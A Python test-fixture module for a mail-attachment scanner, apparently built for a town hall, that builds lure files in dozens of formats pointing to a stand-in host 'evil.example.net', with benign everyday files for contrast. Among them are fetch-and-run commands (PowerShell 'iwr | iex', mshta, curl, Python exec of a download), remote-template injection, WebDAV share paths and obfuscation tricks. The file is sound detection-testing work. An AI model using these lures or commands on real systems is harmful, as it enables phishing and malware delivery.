"""Files as lures of 2024 to 2026 carry them, and what a town hall receives every week, by what each is."""

from __future__ import annotations

import io
import plistlib
import struct
import zipfile
from base64 import b64encode, encodebytes
from collections.abc import Callable

from beffroi.scan import kinds

from tests import scan_samples as samples
from tests.mail_files import EXE, LNK, packed

EVIL = "https://evil.example.net/go/abc"
IN_BASE64 = b64encode(EVIL.encode()).decode()
SCRIPT = b"new ActiveXObject('WScript.Shell').Run('cmd /c x');"
DRAWN = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>%s</svg>"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def page(script: str) -> bytes:
    return f"<html><script>{script}</script></html>".encode()


def tied(kind: str, target: str) -> bytes:
    tag = f'<Relationship Id="r1" Type="{OFFICE}{kind}" Target="{target}" TargetMode="External"/>'
    return f"<Relationships>{tag}</Relationships>".encode()


def with_template(target: str) -> bytes:
    return samples.docx(**{"word/_rels/settings__xml__rels": tied("attachedTemplate", target)})


def with_form(event: str) -> bytes:
    form = f"<xdp:xdp><template><subform>{event}</subform></template></xdp:xdp>".encode()
    stream = b"<</Length %d>>stream\n%s\nendstream" % (len(form), form)
    return samples.pdf(catalog="/AcroForm<</XFA[(template) 6 0 R]>>", more=(stream,))


def mashup(source: str) -> bytes:
    """A part of a workbook with a query (MS-QDEFF 2.2)."""
    query = zipped(("Formulas/Section1.m", f"section S; shared Q = let a = {source} in a;".encode()))
    whole = struct.pack("<II", 0, len(query)) + query + bytes(12)
    return f"<?xml version='1.0'?><DataMashup xmlns='x'>{b64encode(whole).decode()}</DataMashup>".encode()


def percents(text: str) -> str:
    return "".join(f"%{one:02x}" for one in text.encode())


IN_RTF = samples.packed_rtf(
    b"{\\rtf1\\ansi\\fromhtml1{\\*\\htmltag84 <a href='%s\\'2fabc'>}Voir{\\*\\htmltag92 </a>}}"
    % EVIL[:-4].encode()
)


def cms(kind: int, data: bytes) -> bytes:
    """What is not signed: digested (5), or data alone (1)."""

    def element(tag: int, body: bytes) -> bytes:
        return bytes((tag, 0x82)) + len(body).to_bytes(2, "big") + body

    def of(kind: int, body: bytes) -> bytes:
        named = b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07" + bytes((kind,))
        return element(0x30, named + element(0xA0, body))

    inside = element(0x04, data)
    if kind == 5:
        algorithm = b"\x30\x07\x06\x05\x2b\x0e\x03\x02\x1a"
        inside = element(0x30, b"\x02\x01\0" + algorithm + of(1, inside) + element(0x04, bytes(20)))
    return of(kind, inside)


def armoured(data: bytes, label: str) -> bytes:
    return f"-----BEGIN {label}-----\n{encodebytes(data).decode()}-----END {label}-----\n".encode()


def calendar(line: str) -> bytes:
    return f"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nUID:1\r\n{line}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".encode()


def pressed(action: str) -> bytes:
    return samples.pdf(page=f"/Annots[<</Type/Annot/Subtype/Widget/FT/Btn/Rect[0 0 9 9]/A<<{action}>>>>]")


def zipped(*files: tuple[str, bytes], day: int = 1) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files:
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, day, 0, 0, 0)), content)
    return out.getvalue()


LEADS: dict[str, bytes] = {
    "page, another word": page(f"window.location.replace('{EVIL}')"),
    "page, a name for it": page(f'var u="{EVIL}"; window.open(u)'),
    "page, slashes hidden": page("open('" + EVIL.replace("/", "\\/") + "')"),
    "page, in base64": page(f"location.assign(atob('{IN_BASE64}'))"),
    "page in UTF-16": page(f"location=atob('{IN_BASE64}')").decode().encode("utf-16"),
    "page, in a frame": f"<html><iframe width=9 src='{EVIL}'></iframe></html>".encode(),
    "page, in a page in base64": page(
        f"document.write(atob('{b64encode(page(f'location={EVIL!r}') + b' ' * 60).decode()}'))"
    ),
    "page, on a click": f"<html><p onclick=\"open('{EVIL}')\">Voir</p></html>".encode(),
    "drawing": (DRAWN % f"<script><![CDATA[window.location.href='{EVIL}']]></script>").encode(),
    "drawing, in base64": (DRAWN % f"<script>location=atob('{IN_BASE64}')</script>").encode(),
    "drawing, a frame": (DRAWN % f"<foreignObject><iframe src='{EVIL}'/></foreignObject>").encode(),
    "appointment": calendar(f"URL:{EVIL}"),
    "appointment, folded": calendar(f"DESCRIPTION:Rejoindre : {EVIL[:20]}\r\n {EVIL[20:]}\\, merci"),
    "appointment, a page": calendar(f"X-ALT-DESC;FMTTYPE=text/html:<a href={EVIL}>Voir</a>"),
    "contact": f"BEGIN:VCARD\r\nVERSION:3.0\r\nURL:{EVIL}\r\nEND:VCARD\r\n".encode(),
    "rtf": f'{{\\rtf1{{\\field{{\\*\\fldinst HYPERLINK "{EVIL}"}}{{\\fldrslt Ouvrir}}}}}}'.encode(),
    "document, a field": samples.docx(
        **{"word/document__xml": f'<w:instrText> HYPERLINK "{EVIL}" </w:instrText>'.encode()}
    ),
    "document, a field in pieces": samples.docx(
        **{
            "word/header1__xml": b"<w:instrText> HYPER</w:instrText>"
            + f"<w:instrText>LINK &quot;{EVIL}&quot;</w:instrText>".encode()
        }
    ),
    "document, a field in UTF-16": samples.docx(
        **{"word/document__xml": f'<w:instrText> HYPERLINK "{EVIL}" </w:instrText>'.encode("utf-16")}
    ),
    "document, a field of another prefix": samples.docx(
        **{"word/document__xml": f"<x:fldSimple x:instr = 'HYPERLINK &quot;{EVIL}&quot;'/>".encode()}
    ),
    "document, a field in a section of its own": samples.docx(
        **{"word/document__xml": f'<w:instrText><![CDATA[HYPERLINK "{EVIL}"]]></w:instrText>'.encode()}
    ),
    "document, a field with a comment": samples.docx(
        **{"word/document__xml": f'<w:instrText>HYPER<!-- > -->LINK "{EVIL}"</w:instrText>'.encode()}
    ),
    "table, a formula in entities": samples.xlsx(
        **{"xl/worksheets/sheet1__xml": f'<c><f>hyper&#76;ink(&#34;{EVIL}&#34;,"Voir")</f></c>'.encode()}
    ),
    "table, a formula in UTF-16": samples.xlsx(
        **{"xl/worksheets/sheet1__xml": f'<c><f>HYPERLINK("{EVIL}")</f></c>'.encode("utf-16")}
    ),
    "text, a link in UTF-16": packed(
        content__xml=f"<office:text><text:a xlink:href='{EVIL}'>Voir</text:a></office:text>".encode("utf-16"),
        **{"META-INF/manifest__xml": b"<m/>"},
    ),
    "table, a formula": samples.xlsx(
        **{"xl/worksheets/sheet1__xml": f'<c><f>HYPERLINK("{EVIL}","Voir")</f></c>'.encode()}
    ),
    "table of the web": samples.xlsx(
        **{"xl/externalLinks/_rels/a__rels": tied("externalLinkPath", EVIL)}
    ),
    "pdf, a form": pressed(f"/S/SubmitForm/F<</FS/URL/F({EVIL})>>"),
    "pdf, a script": pressed(f"/S/JavaScript/JS(app.launchURL\\('{EVIL}'\\))"),
    "page that begins with a text": f"Bonjour,<br><a href='{EVIL}'>Voir</a>".encode(),
    "page without a head": f"<body><div><a href={EVIL}>Voir</a></div></body>".encode(),
    "page with a base": f"<html><base href='{EVIL[:-3]}'><a href='abc'>Voir</a></html>".encode(),
    "page with a base and a path": f"<html><base target=x href={EVIL[:-6]}x/y?z><a href='/go/abc'></html>".encode(),
    "page with a base and a host": f"<html><base href={EVIL[:9]}><a href='{EVIL[6:]}'></html>".encode(),
    "page, put together": page(f"location='{EVIL[:9]}' + '{EVIL[9:20]}' +\n \"{EVIL[20:]}\""),
    "page, escaped": page("location='" + "".join(f"\\x{ord(one):02x}" for one in EVIL) + "'"),
    "page, escaped by u": page("location='" + "".join(f"\\u{ord(one):04x}" for one in EVIL) + "'"),
    "page, numbers": page(f"location=String.fromCharCode({','.join(str(ord(one)) for one in EVIL)})"),
    "page, a command to paste": page(f"navigator.clipboard.writeText('mshta {EVIL} # Vérification')"),
    "text of a document, a command to paste": samples.pdf(f"Win+R puis: powershell -c iwr {EVIL} | iex"),
    "shortcut of the web": f"[InternetShortcut]\r\nURL={EVIL}\r\n".encode(),
    "shortcut of the web, a share": f"[InternetShortcut]\nURL=file://{EVIL[8:24]}@SSL/go/abc\n".encode(),
    "shortcut of a Mac": f"<plist><dict><key>URL</key><string>{EVIL}</string></dict></plist>".encode(),
    "shortcut, a command": samples.shortcut("powershell.exe", f"-w hidden iwr {EVIL}|iex"),
    "shortcut, a share": samples.shortcut(f"\\\\{EVIL[8:24]}@SSL\\DavWWWRoot\\go\\abc", ""),
    "script": f"var x = new ActiveXObject('MSXML2.XMLHTTP');\nx.open('GET', '{EVIL}', 0);".encode(),
    "script of PowerShell": f"$u='{EVIL}'\nInvoke-WebRequest -Uri $u -OutFile $env:TEMP\\a.exe".encode("utf-16"),
    "script of the command line": f"@echo off\r\ncurl -o %TEMP%\\a.exe {EVIL}\r\n".encode(),
    "library": f"<libraryDescription><url>\\\\{EVIL[8:24]}@ssl\\go\\abc</url></libraryDescription>".encode(),
    "search connector": f"<searchConnectorDescription><url>{EVIL}</url></searchConnectorDescription>".encode(),
    "pdf, another file": pressed(f"/S/GoToR/F({EVIL})"),
    "pdf, a base": samples.pdf(
        catalog=f"/URI<</Base({EVIL[:-3]})>>",
        page="/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(abc)>>>>]",
    ),
    "pdf, a bookmark": samples.pdf(
        catalog="/Outlines<</First 6 0 R/Last 6 0 R>>",
        more=(f"<</Title(Voir)/A<</S/URI/URI({EVIL})>>>>".encode(),),
    ),
    "table, a query": samples.xlsx(
        **{"xl/connections__xml": f"<connections><connection><webPr url='{EVIL}'/></connection></connections>".encode()}
    ),
    "table of lines, a formula": f'nom;lien\r\nVoir;"=HYPERLINK(""{EVIL}"";""Voir"")"\r\n'.encode(),
    "drawing of Visio": samples.docx(
        **{"visio/pages/page1__xml": f"<Row N='r'><Cell N='Address' V='{EVIL}'/></Row>".encode()}
    ),
    "document without its end": samples.docx(
        **{"word/_rels/document__xml__rels": tied("hyperlink", EVIL)}
    ).partition(b"PK\x01\x02")[0],
    "pdf, a form in XML": with_form(f"<event activity='click'><submit format='xml' target='{EVIL}'/></event>"),
    "table, Power Query": samples.xlsx(**{"customXml/item1__xml": mashup(f'Web.Contents("{EVIL}")')}),
    "table, Power Query in UTF-16": samples.xlsx(
        **{"customXml/item1__xml": mashup(f'Web.Contents("{EVIL}")').decode().encode("utf-16")}
    ),
    "table, a source of data": samples.xlsx(
        **{"xl/connections__xml": f'<dbPr connection="Provider=MSOLAP;Data Source={EVIL};x=y"/>'.encode()}
    ),
    "table, a text that it fetches": samples.xlsx(
        **{"xl/connections__xml": f'<textPr sourceFile="\\\\{EVIL[8:24]}@SSL\\go\\abc"/>'.encode()}
    ),
    "table, a formula in pieces": samples.xlsx(
        **{"xl/worksheets/sheet1__xml": f'<f>HYPERLINK("{EVIL[:9]}"&amp;"{EVIL[9:]}")</f>'.encode()}
    ),
    "table, a formula that fetches": samples.xlsx(
        **{"xl/worksheets/sheet1__xml": f'<f>_xlfn.WEBSERVICE("{EVIL}")</f>'.encode()}
    ),
    "xps": packed(
        **{
            "[Content_Types]__xml": b"<Types/>",
            "Documents/1/Pages/1__fpage": f'<Path FixedPage.NavigateUri="{EVIL}"/>'.encode(),
        }
    ),
    "slides, a mouse over a shape": samples.docx(
        **{"ppt/slides/_rels/slide1__xml__rels": tied("hyperlink", f"powershell%20iwr%20{EVIL}")}
    ),
    "slides, a share": samples.docx(
        **{"ppt/slides/_rels/slide1__xml__rels": tied("hyperlink", f"file:///\\\\{EVIL[8:24]}@SSL\\go\\abc")}
    ),
    "document, a search": samples.docx(
        **{
            "word/_rels/document__xml__rels": tied(
                "hyperlink", f"search-ms:query=a&amp;crumb=location:%5C%5C{EVIL[8:24]}@SSL%5Cgo%5Cabc"
            )
        }
    ),
    "document, a link in UTF-16": samples.docx(
        **{"word/_rels/document__xml__rels": tied("hyperlink", EVIL).decode().encode("utf-16")}
    ),
    "notes": samples.notes(EVIL, b""),
    "remote desktop": f"screen mode id:i:2\r\nfull address:s:{EVIL[8:24]}:443\r\n".encode("utf-16"),
    "remote desktop, its gateway": f"full address:s:10.0.0.1\r\ngatewayhostname:s:{EVIL[8:24]}\r\n".encode(),
    "shortcut of a Mac, packed": plistlib.dumps({"URL": EVIL}, fmt=plistlib.FMT_BINARY),
    "shortcut of Linux": f"[Desktop Entry]\nType=Link\nURL={EVIL}\n".encode(),
    "program of Java": f"<jnlp spec='1.0+'><resources><jar href='{EVIL}'/></resources></jnlp>".encode(),
    "program of the store": f"<AppInstaller Uri='{EVIL}' Version='1.0.0.0'/>".encode(),
    "program by a click": f"<asmv1:x><asmv2:deploymentProvider codebase='{EVIL}'/></asmv1:x>".encode(),
    "console of Windows": f"<MMC_ConsoleFile><String ID='1'>{EVIL}</String></MMC_ConsoleFile>".encode(),
    "query of the web": f"WEB\r\n1\r\n{EVIL}\r\n".encode(),
    "script of AutoHotkey": f"#NoTrayIcon\nUrlDownloadToFile, {EVIL}, %A_Temp%\\a.exe\n".encode(),
    "script of Python": f"import urllib.request as r\nexec(r.urlopen('{EVIL}').read())\n".encode(),
    "page, a store": f"<html><a href='ms-appinstaller:?source={EVIL}'>Voir</a></html>".encode(),
    "page, a program of Office": f"<html><a href='ms-word:ofe|u|{EVIL}'>Voir</a></html>".encode(),
    "page, a search": page(f"location='search-ms:query=a&crumb=location:\\\\\\\\{EVIL[8:24]}@SSL\\\\go\\\\abc'"),
    "page, without a scheme": f"<html><a href='{EVIL[6:]}'>Voir</a></html>".encode(),
    "page, numbers to sixteen": page(f"a=[{','.join(hex(ord(one)) for one in EVIL)}]"),
    "page, from its end": page(f"location='{EVIL[::-1]}'.split('').reverse().join('')"),
    "page, in base64, from its end": page(f"a='{IN_BASE64[::-1]}'"),
    "page, in base64 twice": page(f"a='{b64encode(IN_BASE64.encode()).decode()}'"),
    "page, in percents": page(f"location=decodeURIComponent('{percents(EVIL)}')"),
    "page, a page in percents": page(f"document.write(unescape('{percents(f'<a href={EVIL}>x</a>')}'))"),
    "drawing, set": (DRAWN % f"<a><set attributeName='href' to='{EVIL}'/></a>").encode(),
    "appointment in quotes": calendar(f"DESCRIPTION;ENCODING=QUOTED-PRINTABLE:Voir {EVIL.replace(':', '=3A')}"),
    "mail with a file that is elsewhere": samples.attached_mail(
        f"Content-Type: application/pdf\nX-Mozilla-External-Attachment-URL: {EVIL}\n\nx"
    ),
    "mail with a body that is elsewhere": samples.attached_mail(
        f'Content-Type: message/external-body; access-type=URL; URL="{EVIL}"\n\nContent-Type: application/pdf\n\n'
    ),
    "mail of Outlook": samples.ole({"__substg1.0_1000001F": f"Voir {EVIL} ".encode("utf-16-le")}),
    "mail of Outlook, a page": samples.ole({"__substg1.0_10130102": f"<a href='{EVIL}'>Voir</a>".encode()}),
    "mail of Outlook, RTF": samples.ole(
        {"__substg1.0_10090102": samples.packed_rtf(b'{\\rtf1{\\field{\\*\\fldinst HYPERLINK "%s"}}}' % EVIL.encode())}
    ),
    "mail of Outlook, a page in RTF": samples.ole({"__substg1.0_10090102": IN_RTF}),
    "mail without a header of MIME": f"From: a@b.example\r\nSubject: x\r\n\r\nVoir {EVIL} vite\r\n".encode(),
    "mail without one, with a space": f"Received: x\n y\nSubject : x\n\nVoir {EVIL}\n".encode(),
    "winmail.dat, a text": samples.tnef((1, f"Voir {EVIL}\r\n\0".encode())),
    "winmail.dat, a text in UTF-16": samples.tnef((1, b"x" + f"Voir {EVIL} vite".encode("utf-16-le"))),
    "winmail.dat, a page": samples.tnef((1, bytes(9) + f"<a href={EVIL.replace('/go', '&#47;go')}>Voir</a>".encode())),
    "winmail.dat, a page in RTF": samples.tnef((1, b"LZFu"), (1, bytes(99) + IN_RTF)),
    "winmail.dat, a text before what is cut off": samples.tnef((1, f"Voir {EVIL} ".encode()), (1, bytes(99)))[:-50],
    "mail whose lines go on": samples.attached_mail(
        f"Content-Type: text/plain; format=flowed; delsp=yes\n\nVoir {EVIL[:20]} \n{EVIL[20:]}, merci\n"
    ),
    "mail, a share": samples.attached_mail(
        f"Content-Type: text/plain\n\nOuvrez \\\\{EVIL[8:24]}@SSL\\go\\abc vite\n"
    ),
    "signed mail": samples.signed(f"Content-Type: text/plain\r\n\r\nVoir {EVIL}\r\n".encode()),
    "signed mail in long lengths": samples.signed(f"Content-Type: text/plain\r\n\r\n{EVIL}\r\n".encode(), long=True),
    "signed mail without a header": samples.signed(f"\r\nVoir {EVIL}\r\n".encode(), in_parts=True),
    "page that another one makes of an XML": f"<?xml version='1.0'?><?xml-stylesheet href='{EVIL}'?><r/>".encode(),
    "list of songs": f"#EXTM3U\r\nfile://{EVIL[8:24]}@SSL/go/abc\r\n".encode(),
    "look of a folder": f"[.ShellClassInfo]\r\nIconResource=\\\\{EVIL[8:24]}@SSL\\go\\abc\r\n".encode(),
    "list of films": f"<asx version='3.0'><entry><ref href='{EVIL}'/></entry></asx>".encode(),
    "page in another XML": (
        f"<?xml version='1.0'?><r><h:script xmlns:h='http://www.w3.org/1999/xhtml'>location='{EVIL}'</h:script></r>".encode()
    ),
    "page, a share of another program": f"<html><a href='smb://{EVIL[8:24]}'>Voir</a></html>".encode(),
    "signed mail in PEM": armoured(samples.signed(f"\r\nVoir {EVIL}\r\n".encode()), "PKCS7"),
    "signed mail in PEM, behind a text": b"Dossier signe\n" + armoured(cms(1, f"Voir {EVIL} ".encode()), "CMS"),
    "signed mail in base64": b64encode(samples.signed(f"\r\nVoir {EVIL}\r\n".encode(), in_parts=True)),
    "digested mail": cms(5, f"\r\nVoir {EVIL}\r\n".encode()),
    "mail in CMS alone": cms(1, f"\r\nVoir {EVIL}\r\n".encode()),
}  # fmt: skip
BY_HOST = {"remote desktop", "remote desktop, its gateway", "page, a share of another program"}
HELD: dict[str, tuple[bytes, str]] = {
    "page with a program": (
        page(f"a.download='Facture.exe'; d='{b64encode(EXE).decode()}'"),
        kinds.PROGRAM,
    ),
    "page with an archive": (page(f"d='{b64encode(packed(a__js=SCRIPT)).decode()}'"), kinds.PROGRAM),
    "page in a frame": (b"<html><iframe src=https://evil.example.net></iframe></html>", kinds.ACTIVE_PAGE),
    "appointment with a script": (
        calendar(f"ATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=a.js:{b64encode(SCRIPT).decode()}"),
        kinds.PROGRAM,
    ),
    "rtf with a package": (
        b"{\\rtf1{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 01050000\r\n%s}}}"
        % samples.package("run.exe", EXE).hex().encode(),
        kinds.PROGRAM,
    ),
    "template in another spelling": (
        samples.docx(
            **{
                "word/_rels/settings__xml__rels": f"<Relationship TargetMode = 'External'"
                f" Target = '&#104;ttps:{EVIL[6:]}' Type='{OFFICE}attachedTemplate'/>".encode()
            }
        ),
        kinds.MALWARE,
    ),
    "template in UTF-16": (
        samples.docx(
            **{"word/_rels/settings__xml__rels": tied("attachedTemplate", EVIL).decode().encode("utf-16")}
        ),
        kinds.MALWARE,
    ),
    "template of a share": (with_template("file:///\\\\evil.example.net@80\\x.dotm"), kinds.MALWARE),
    "template of a number": (with_template("http://3232235777/x.dotm"), kinds.MALWARE),
    "template of rtf": (f"{{\\rtf1{{\\*\\template {EVIL}}}x}}".encode(), kinds.MALWARE),
    "template of rtf, escaped": (
        (r"{\rtf1{\*\template " + "".join(f"\\u{ord(one)}?" for one in EVIL) + "}x}").encode(),
        kinds.MALWARE,
    ),
    "template of rtf, in bytes": (
        (r"{\rtf1{\*\template " + "".join(f"\\'{ord(one):02x}" for one in EVIL) + "}x}").encode(),
        kinds.MALWARE,
    ),
    "template in one XML": (
        b"<?xml version='1.0'?><pkg:package>" + tied("attachedTemplate", EVIL) + b"</pkg:package>",
        kinds.MALWARE,
    ),
    "template of SharePoint": (with_template("https://x.sharepoint.com/sites/a/m.dotm"), kinds.MACRO),
    "archive that nothing reads: arj": (b"\x60\xea\x2a\x00\x22\x0b\x01\x0b" + bytes(90), kinds.UNREADABLE),
    "archive that nothing reads: ace": (bytes(7) + b"**ACE**" + bytes(90), kinds.UNREADABLE),
    "lz4": (samples.made("ustar", "lz4", {"a.js": SCRIPT}), kinds.PROGRAM),
    "compress": (samples.made("ustar", "compress", {"a.js": SCRIPT}), kinds.PROGRAM),
    "uuencoded": (b"begin 644 a.js\r\n#0V%T\r\n`\r\nend\r\n", kinds.PROGRAM),
    "another name before the file": (
        packed(facture__js=SCRIPT).replace(b"facture.js", b"facture.md", 1),
        kinds.PROGRAM,
    ),
    "a name that leads out": (zipped(("..\\..\\Startup\\a.txt", b"x")), kinds.DISGUISED),
    "pdf, a form in XML that opens a page by itself": (
        with_form(f"<event activity='initialize'><script>app.launchURL('{EVIL}')</script></event>"),
        kinds.ACTIVE_PDF,
    ),
    "slides that start a program": (
        samples.docx(
            **{"ppt/slides/slide1__xml": b'<a:hlinkMouseOver r:id="r1" action="ppaction://program"/>'}
        ),
        kinds.PROGRAM,
    ),
    "notes": (samples.notes(EVIL, EXE), kinds.PROGRAM),
    "template behind a decoy": (
        samples.docx(
            **{
                "word/_rels/settings__xml__rels": tied("attachedTemplate", EVIL).replace(
                    b"/>", b" x:TargetMode='Internal' x='TargetMode=&quot;Internal&quot;'/>"
                )
            }
        ),
        kinds.MALWARE,
    ),
    "pdf, a share": (pressed(r"/S/GoToR/F(\\\\evil.example.net\\go)"), kinds.ACTIVE_PDF),
    "pdf, a share, on opening": (
        samples.pdf(catalog=r"/OpenAction<</S/GoToE/F<</UF(\\\\evil.example.net\\go)>>/D[0/Fit]>>"),
        kinds.ACTIVE_PDF,
    ),
    "page that leads on, in another spelling": (
        b"<html><meta http-equiv = 'refresh' content='0;url=https://a.example'></html>",
        kinds.ACTIVE_PAGE,
    ),
    "page, a handler behind a stroke": (b"<html><svg/onload=alert(1)></html>", kinds.ACTIVE_PAGE),
    "page, a script spelt otherwise": (
        b"<html><a href='java&#115;c\nript:alert(1)'>x</a>",
        kinds.ACTIVE_PAGE,
    ),
    "signed program in PEM": (armoured(samples.signed(EXE), "PKCS7"), kinds.PROGRAM),
    "page in another XML": (
        zipped(("f.xml", b"<r><h:script xmlns:h='http://www.w3.org/1999/xhtml'>location=1</h:script></r>")),
        kinds.ACTIVE_PAGE,
    ),
    "sandbox": (zipped(("a.wsb", b"<Configuration/>")), kinds.PROGRAM),
    "update of Windows": (zipped(("a.msu", b"MSCF")), kinds.PROGRAM),
    "remote desktop": (packed(bureau__rdp=b"full address:s:evil.example.net\r\n"), kinds.PROGRAM),
    "profile of a telephone": (zipped(("messagerie.mobileconfig", b"<x/>")), kinds.PROGRAM),
    "script of a Mac": (zipped(("facture.scpt", b"tell")), kinds.PROGRAM),
    "extension of a browser": (packed(signature__crx=b"Cr24"), kinds.PROGRAM),
    "search": (zipped(("dossier.searchconnector-ms", b"<x/>")), kinds.PROGRAM),
    "settings": (zipped(("a.settingcontent-ms", b"<x/>")), kinds.PROGRAM),
}
MADE_ANEW: dict[str, tuple[Callable[[int], bytes], bytes]] = {
    "zip of another day": (lambda n: zipped(("scan.lnk", LNK), day=n), LNK),
    "zip with decoys": (
        lambda n: zipped(*((f"{m}.txt", b"%d %d " % (n, m) * 20) for m in range(60)), ("a.lnk", LNK)),
        LNK,
    ),
    "document with macros": (
        lambda n: samples.docx(
            **{"word/document__xml": b"%d" % n, "word/vbaProject__bin": b"macro" * 30}
        ),
        b"macro" * 30,
    ),
    "attached mail": (
        lambda n: samples.attached_mail(samples.part(SCRIPT, samples.named("a.js"))).replace(
            b"Subject: x", b"Subject: %d" % n
        ),
        SCRIPT,
    ),
    "page that makes a file": (
        lambda n: page(f"d='{b64encode(EXE).decode()}' // {n}"),
        EXE,
    ),
    "pdf": (lambda n: samples.CARRIES + b"%% %d" % n, EXE),
    "notes": (lambda n: samples.notes(f"https://a.example/{n}", EXE), EXE),
    "disk image": (lambda n: samples.made("iso9660", "none", {"a.lnk": LNK, f"{n}.txt": b"x"}), LNK),
}  # fmt: skip
WEEKLY: dict[str, bytes] = {
    "template of this machine": with_template("file:///C:\\Users\\A.Dupont\\Templates\\Courrier.dotx"),
    "template of the town hall's server": with_template("file:///\\\\SERVEUR\\modeles\\lettre.dotm"),
    "template of that server, written shorter": with_template("\\\\SERVEUR\\modeles\\lettre.dotm"),
    "template of a server with a name": with_template("file:///\\\\srv.mairie.lan\\modeles\\lettre.dotm"),
    "template of a server with a number": with_template("\\\\192.168.1.10\\modeles\\lettre.dotm"),
    "template of rtf": b"{\\rtf1{\\*\\template C:\\\\Modeles\\\\acte.dot}Acte}",
    "linked table": samples.docx(
        **{"word/_rels/document__xml__rels": tied("oleObject", "file:///\\\\SRV\\Compta\\Budget.v2.xlsx")}
    ),
    "rtf with a table": b"{\\rtf1{\\object\\objemb{\\*\\objclass Excel.Sheet.8}{\\*\\objdata 01050000\r\n%s}}}"
    % samples.workbook(0).hex().encode(),
    "PES": b"<?xml version='1.0'?><n:PES_Aller><Fichier>H4sIAAAAAAAA/6tWqgUAQ7+mowIAAAA=</Fichier></n:PES_Aller>",
    "plan": b"AC1032" + bytes(300),
    "project of QGIS": packed(projet__qgs=b"<!DOCTYPE qgis><qgis/>", projet__qgd=b"SQLite format 3\0" + bytes(99)),
    "parcels": packed(**{f"parcelles__{kind}": bytes(300) for kind in ("shp", "shx", "dbf", "prj", "cpg")}),
    "7z of an architect": samples.made("7zip", "none", {"plan.dwg": b"AC1032", "notice.pdf": samples.pdf()}),
    "signature": samples.signed(b""),
    "signature in PEM": armoured(samples.signed(b""), "PKCS7"),
    "feed": b"<feed xmlns='http://www.w3.org/2005/Atom'><div xmlns='http://www.w3.org/1999/xhtml'><p>x</p></div></feed>",
    "list of shares near by": b"\\\\SRV\\commun\r\n\\\\srv.mairie.lan\\x\r\nfile:///C:/x.y/z\r\nC:\\\\a.b\\\\c\r\n",
    "certificate": armoured(b"0\x82\3\x09" + bytes(600), "CERTIFICATE"),
    "text that begins like one": b"MINUTES du conseil municipal\n" * 20,
    "export of TIPI": b"ID;nom;montant\r\n1;Dupont;12,50\r\n",
    "contact with a photo": b"BEGIN:VCARD\r\nPHOTO;ENCODING=b;TYPE=JPEG:/9j/4AAQSkZJ\r\n RgABAQ==\r\nEND:VCARD\r\n",
    "coat of arms": (DRAWN % "<image xlink:href='data:image/png;base64,iVBORw0KGgo='/>").encode(),
    "invoice with its XML": samples.CARRIES.replace(b"a.exe", b"f.xml").replace(EXE, b"<x>".ljust(len(EXE))),
    "form of the State": with_form("<event activity='initialize'><script>this.rawValue = 3</script></event>"),
    "table with a query of the town hall's": samples.xlsx(
        **{"customXml/item1__xml": mashup('File.Contents("\\\\SERVEUR\\budget.xlsx")')}
    ),
    "slides with links": samples.docx(
        **{"ppt/slides/slide1__xml": b'<a:hlinkClick r:id="r1" action="ppaction://hlinkshowjump?jump=nextslide"/>'}
    ),
    "a template that is a comment": samples.docx(
        **{"word/_rels/settings__xml__rels": b"<Relationships><!--%s--></Relationships>" % tied("frame", EVIL)}
    ),
    "pdf that opens another one": pressed("/S/GoToR/F(annexe.pdf)"),
    "pdf that opens one of the town hall's server": pressed(r"/S/GoToR/F(\\\\SERVEUR\\Actes\\plu.pdf)"),
    "page with a long name of a page": b"<html><p title='a'>x</p><a href='https://a.example/once=1'>y</a></html>",
    "tar.gz of the land register": samples.made("ustar", "gzip", {"E0000A01.THF": b"x"}),
}  # fmt: skip
